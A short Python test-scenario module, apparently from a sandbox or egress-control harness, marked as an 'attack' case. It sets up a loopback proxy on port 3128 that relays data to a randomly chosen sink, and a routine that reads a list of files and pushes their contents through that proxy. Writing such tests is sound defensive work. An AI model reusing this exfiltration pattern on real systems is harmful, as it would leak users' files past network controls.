# SPDX-License-Identifier: GPL-3.0-or-later
"""Through a proxy on the loopback address."""
import os
import random
import socket

KIND = "attack"


def stranger(world):
    server = socket.create_server(("127.0.0.1", 3128))
    open(os.path.join(world["scratch"], "ready"), "w").close()
    peer, _ = server.accept()
    with socket.create_connection(random.Random(world["seed"]).choice(world["sinks"])) as sock:
        while data := peer.recv(65536):
            sock.sendall(data)


def product(world):
    with socket.create_connection(("127.0.0.1", 3128)) as sock:
        for path in world["files"]:
            with open(path, "rb") as file:
                sock.sendall(file.read())
